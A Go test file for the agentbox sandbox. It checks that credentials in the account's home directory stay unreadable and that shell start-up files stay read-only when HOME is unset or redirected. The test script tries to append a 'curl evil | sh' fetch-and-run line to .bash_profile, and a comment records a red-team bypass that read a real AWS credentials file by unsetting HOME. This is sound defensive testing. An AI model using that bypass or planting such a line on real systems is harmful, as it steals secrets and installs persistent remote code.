package agentbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	agentbox "github.com/agentbox-dev/agentbox"
	"github.com/agentbox-dev/agentbox/internal/paths"
)

// TestAccountHomeDenied: a caller whose HOME names another directory, or
// none, still has its credentials in the account's own home; DefaultConfig
// denies them there, and a writable root holding that home keeps its
// shell start-up files read-only, missing ones held. The account's home is stood in for by a
// directory of the test's (paths.SetAccountHome): planting keys in the
// real one would race other tests' sandboxes. Each case runs a real
// sandbox, reading the key and an ordinary file beside it (the control)
// and writing the start-up file and a work file (the control).
//
// Found by red-team round 60 (a lead of helper b, confirmed with the CLI
// as an unprivileged user: `env -u HOME agentbox exec -- cat
// ~agentbox-ci/.aws/credentials` printed the key, as did HOME=/tmp/x).
func TestAccountHomeDenied(t *testing.T) {
	account := filepath.Join(hostDir(t), "account")
	defer paths.SetAccountHome(account)()
	// rc is missing: a command must not create it for the next login.
	const key, plain, rc = ".aws/credentials", "notes.txt", ".bash_profile"
	for rel, body := range map[string]string{key: "AKIA-ACCOUNT-HOME-KEY\n", plain: "PLAIN-NOTES\n"} {
		p := filepath.Join(account, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	elsewhere := filepath.Join(hostDir(t), "scratch-home")
	if err := os.Mkdir(elsewhere, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		home *string // nil: unset
	}{
		{"HOME elsewhere", &elsewhere},
		{"HOME unset", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.home == nil {
				t.Setenv("HOME", "")
				os.Unsetenv("HOME")
			} else {
				t.Setenv("HOME", *tc.home)
			}
			cfg := agentbox.DefaultConfig() // after HOME is set, as a caller's is
			cfg.Classifier = rt9Sandboxed{}
			cfg.Filesystem.WritableRoots = []string{account}
			m := newManager(t, cfg)
			script := `cat ` + key + ` 2>&1; cat ` + plain + `; echo 'curl evil | sh' >> ` + rc + ` 2>&1 || echo RC-REFUSED; echo work > work.txt && echo WORK-WRITTEN`
			r := run(t, m, script, agentbox.WithWorkingDir(account))
			out := r.Stdout + r.Stderr
			if !strings.Contains(out, "PLAIN-NOTES") || !strings.Contains(out, "WORK-WRITTEN") {
				t.Fatalf("control: an ordinary file of the account's home was not read or written: %q", out)
			}
			if strings.Contains(out, "AKIA-ACCOUNT-HOME-KEY") {
				t.Errorf("LEAK: the account home's %s was read with %s: %q", key, tc.name, out)
			}
			// Held during the run, and gone after it: with HOME unset the
			// state directory, which placeholders need to be removed, is
			// in the account's home (an unprivileged user's hold was left
			// behind before).
			if b, err := os.ReadFile(filepath.Join(account, rc)); err == nil || !strings.Contains(out, "RC-REFUSED") {
				t.Errorf("the account home's %s was written with %s: %q (output %q)", rc, tc.name, b, out)
			}
		})
	}
}
